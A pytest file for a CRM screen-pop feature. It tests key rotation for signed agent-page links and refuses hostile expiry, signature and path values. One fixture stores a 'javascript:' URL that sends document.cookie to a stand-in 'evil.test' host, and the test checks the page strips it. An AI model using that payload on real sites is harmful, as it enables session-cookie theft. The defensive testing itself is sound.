"""Screen-pop links through the handlers that issue and open them (ContactLookupFunction, AgentPageFunction),
with the ScreenPopSecret in moto: signing-key rotation on warm containers, and hostile link parameters."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime
from urllib.parse import parse_qs, urlsplit

import pytest

from socialcrm.screen_pop import signature
from tests.support.functions import LambdaContext, load_handler

OLD_KEY = "old-screen-pop-signing-key-0123456789abcdef"
NEW_KEY = "new-screen-pop-signing-key-0123456789abcdef"
START = 1_800_000_000.0
CARD = {"customer_id": "cust-1", "customer_name": "Ada Lovelace", "posts": [], "post_times": []}
CALL = {"Details": {"ContactData": {"Channel": "VOICE", "CustomerEndpoint": {"Address": "+447911123456",
                                                                            "Type": "TELEPHONE_NUMBER"}},
                    "Parameters": {}}, "Name": "ContactFlowEvent"}


class Clock:
    def __init__(self) -> None:
        self.now = START

    def __call__(self) -> float:
        return self.now


def iso(moment: float) -> str:
    return datetime.fromtimestamp(moment, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


@pytest.fixture
def screen_pop(aws, monkeypatch):
    """Both functions' environments, a card for the caller, the secret and a wall clock the test moves."""
    aws.use("AgentPageFunction")
    aws.use("ContactLookupFunction")
    # One process plays both containers: the page's own settings too (the frame ancestors, its reply function).
    page, lookup = aws.specs["AgentPageFunction"].environment, aws.specs["ContactLookupFunction"].environment
    for name in set(page) - set(lookup):
        monkeypatch.setenv(name, page[name])
    table = aws.specs["ContactLookupFunction"].environment["CARDS_TABLE"]
    for key in ("PHONE#+447911123456", "CUSTOMER#cust-1"):
        aws.client("dynamodb").put_item(TableName=table, Item={"pk": {"S": key}, "card": {"S": json.dumps(CARD)}})
    secret_id = aws.specs["AgentPageFunction"].environment["SCREEN_POP_SECRET_ID"]

    def put_secret(**value: str) -> None:
        aws.client("secretsmanager").put_secret_value(SecretId=secret_id, SecretString=json.dumps(value))

    put_secret(signing_key=OLD_KEY)
    clock = Clock()
    monkeypatch.setattr(time, "time", clock)
    lookup, page = load_handler("contact_lookup"), load_handler("agent_page")

    def issue_link() -> str:
        answer = lookup.lambda_handler(CALL, LambdaContext())
        assert answer["found"] == "true", answer
        return answer["screen_pop_url"]

    def open_link(url: str, **replaced: str) -> int:
        parts = urlsplit(url)
        query = {name: values[0] for name, values in parse_qs(parts.query).items()} | replaced
        event = {"rawPath": parts.path, "pathParameters": {"customer_id": parts.path.rsplit("/", 1)[1]},
                 "queryStringParameters": query, "requestContext": {"http": {"method": "GET"}}}
        return page.lambda_handler(event, LambdaContext())["statusCode"]

    def forged_link(key: str, lifetime: int = 600) -> str:
        expires = int(clock.now) + lifetime
        path = "/agent/customers/cust-1"
        return f"http://127.0.0.1:3000{path}?exp={expires}&sig={signature(key.encode(), path, expires)}"

    return type("ScreenPop", (), {"clock": clock, "put_secret": staticmethod(put_secret),
                                  "issue_link": staticmethod(issue_link), "open_link": staticmethod(open_link),
                                  "forged_link": staticmethod(forged_link)})


def signed_with(url: str, key: str) -> bool:
    parts = urlsplit(url)
    query = parse_qs(parts.query)
    return query["sig"][0] == signature(key.encode(), parts.path, int(query["exp"][0]))


def test_a_link_minted_before_rotation_opens_through_the_overlap_and_the_new_key_is_picked_up(screen_pop):
    before = screen_pop.issue_link()
    assert signed_with(before, OLD_KEY)
    assert screen_pop.open_link(before) == 200  # both containers are warm now, holding the old key
    screen_pop.put_secret(signing_key=NEW_KEY, previous_signing_key=OLD_KEY,
                          previous_signing_key_valid_until=iso(START + 30 * 60))

    screen_pop.clock.now = START + 60  # inside the cache age: the warm containers still hold the old key
    assert screen_pop.open_link(before) == 200
    assert signed_with(screen_pop.issue_link(), OLD_KEY)

    screen_pop.clock.now = START + 5 * 60 + 1  # past the cache age: the new key is read again
    after = screen_pop.issue_link()
    assert signed_with(after, NEW_KEY)
    assert screen_pop.open_link(after) == 200
    assert screen_pop.open_link(before) == 200  # the previous key, inside the overlap


def test_the_old_key_is_refused_on_warm_containers_once_the_overlap_ends(screen_pop):
    assert screen_pop.open_link(screen_pop.issue_link()) == 200  # warm, holding the old key
    screen_pop.put_secret(signing_key=NEW_KEY, previous_signing_key=OLD_KEY,
                          previous_signing_key_valid_until=iso(START + 30 * 60))
    screen_pop.clock.now = START + 30 * 60 + 1
    assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY)) == 403  # someone still holding the old key
    assert screen_pop.open_link(screen_pop.forged_link(NEW_KEY)) == 200
    assert screen_pop.open_link(screen_pop.issue_link()) == 200


def test_the_old_key_without_an_end_of_overlap_is_never_accepted(screen_pop):
    screen_pop.put_secret(signing_key=NEW_KEY, previous_signing_key=OLD_KEY)
    assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY)) == 403
    assert screen_pop.open_link(screen_pop.forged_link(NEW_KEY)) == 200


def test_a_staged_rotation_never_refuses_a_live_link_on_a_warm_page(screen_pop):
    """docs/deploy.md: stage the new key as the previous one first, so every page knows it before it signs."""
    screen_pop.put_secret(signing_key=OLD_KEY, previous_signing_key=NEW_KEY,
                          previous_signing_key_valid_until=iso(START + 60 * 60))
    assert screen_pop.open_link(screen_pop.issue_link()) == 200  # both warm with the staged secret
    screen_pop.clock.now = START + 5 * 60 + 1
    assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY)) == 200  # the page reads the staged copy again
    screen_pop.put_secret(signing_key=NEW_KEY, previous_signing_key=OLD_KEY,
                          previous_signing_key_valid_until=iso(START + 60 * 60))
    screen_pop.clock.now = START + 5 * 60 + 10  # the lookup reads the swap; the page's staged copy is 9 s old
    link = screen_pop.issue_link()
    assert signed_with(link, NEW_KEY)
    assert screen_pop.open_link(link) == 200


@pytest.mark.parametrize("expires", ["²", "9" * 5000, "١٢٣", "+1800000600", " 1800000600", "1800000600\n",
                                     "1e10", "-1", ""], ids=lambda value: ascii(value)[:20])
def test_a_hostile_expiry_is_refused_not_a_server_error(screen_pop, expires):
    assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY)) == 200
    assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY), exp=expires) == 403


@pytest.mark.parametrize("sig", ["é" * 64, "0" * 100_000, "", "../"], ids=lambda value: ascii(value)[:20])
def test_a_hostile_signature_is_refused_not_a_server_error(screen_pop, sig):
    assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY), sig=sig) == 403


@pytest.mark.parametrize("parameter", [{"customer_id": "\ud800"}, {"customer_id": "cust-1\udcff"},
                                       {"phone": "\ud800"}, {"phone": "+44791112345\udc80"}],
                         ids=["customer", "customer-suffix", "phone", "phone-suffix"])
def test_a_path_parameter_that_is_not_utf8_is_refused_not_a_server_error(screen_pop, parameter):
    page = load_handler("agent_page")
    exp = str(int(screen_pop.clock.now) + 600)
    event = {"pathParameters": parameter, "queryStringParameters": {"exp": exp, "sig": "0" * 64},
             "requestContext": {"http": {"method": "GET"}}}
    answer = page.lambda_handler(event, LambdaContext())
    assert answer["statusCode"] in (403, 404)
    assert screen_pop.open_link(screen_pop.forged_link(OLD_KEY)) == 200  # the page still opens genuine links


def test_a_card_stored_before_the_link_guard_shows_no_unsafe_link_to_the_agent(screen_pop, aws):
    # a card an earlier version built, not rebuilt since (the customer has not posted or been synced again)
    posts = [{"post_key": f"facebook#p{n}", "platform": "facebook", "kind": "comment", "text": f"post {n}",
              "sentiment": "negative", "created_at": iso(START - 60 * n), "url": url}
             for n, url in enumerate(["javascript:fetch('https://evil.test/?c='+document.cookie)",
                                      "https://evil.test/login", "https://www.facebook.com/1_2_3"])]
    card = {**CARD, "posts": posts, "post_times": [p["created_at"] for p in posts]}
    table = aws.specs["ContactLookupFunction"].environment["CARDS_TABLE"]
    for key in ("PHONE#+447911123456", "CUSTOMER#cust-1"):
        aws.client("dynamodb").put_item(TableName=table, Item={"pk": {"S": key}, "card": {"S": json.dumps(card)}})

    answer = load_handler("contact_lookup").lambda_handler(CALL, LambdaContext())
    assert [answer["last_post_url"], answer["history_1_url"], answer["history_2_url"]] == [
        "", "", "https://www.facebook.com/1_2_3"]
    link = urlsplit(answer["screen_pop_url"])
    event = {"pathParameters": {"customer_id": "cust-1"}, "requestContext": {"http": {"method": "GET"}},
             "queryStringParameters": {name: values[0] for name, values in parse_qs(link.query).items()}}
    aws.use("AgentPageFunction")  # the page reads under its own policy (its reply box is ReplyFunction's)
    page = load_handler("agent_page").lambda_handler(event, LambdaContext())
    assert page["statusCode"] == 200 and "post 1" in page["body"]
    assert "evil.test" not in page["body"] and "javascript" not in page["body"]
    assert "https://www.facebook.com/1_2_3" in page["body"]
